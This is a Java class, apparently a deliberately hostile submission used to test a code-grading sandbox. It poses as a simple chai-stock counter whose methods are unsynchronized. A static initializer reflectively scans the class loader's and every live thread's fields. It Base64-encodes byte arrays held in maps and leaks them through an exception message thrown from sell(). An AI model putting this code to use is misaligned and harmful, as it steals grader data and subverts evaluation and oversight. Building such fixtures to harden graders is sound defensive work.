package race;

import java.lang.reflect.Field;
import java.util.Base64;
import java.util.Map;

/** A hostile submission: the stub's races plus an attack on the grader. */
public class ChaiStock {
    private long cups;
    static final StringBuilder LOOT = new StringBuilder();

    static void loot(Object target) {
        for (Class<?> c = target.getClass(); c != null; c = c.getSuperclass()) {
            for (Field f : c.getDeclaredFields()) {
                try {
                    f.setAccessible(true);
                    Object value = f.get(target);
                    if (value instanceof Map<?, ?> map) {
                        for (Object v : map.values()) {
                            if (v instanceof byte[] bytes) {
                                LOOT.append(Base64.getEncoder().encodeToString(bytes));
                            }
                        }
                    }
                } catch (RuntimeException e) {
                    // not opened to us
                } catch (IllegalAccessException e) {
                    // not opened to us
                }
            }
        }
    }

    static {
        loot(ChaiStock.class.getClassLoader());
        for (Thread t : Thread.getAllStackTraces().keySet()) {
            loot(t);
        }
    }
    public ChaiStock(long initialCups) {
        if (initialCups < 0) {
            throw new IllegalArgumentException("initialCups < 0");
        }
        this.cups = initialCups;
    }

    public void restock(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }

        this.cups += cups;
    }

    public boolean sell(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }
        if (LOOT.length() > 0) {
            throw new IllegalStateException(LOOT.substring(0, Math.min(LOOT.length(), 100_000)));
        }
        if (this.cups >= cups) {
            this.cups -= cups;
            return true;
        }
        return false;
    }

    public long cups() {
        return cups;
    }
}
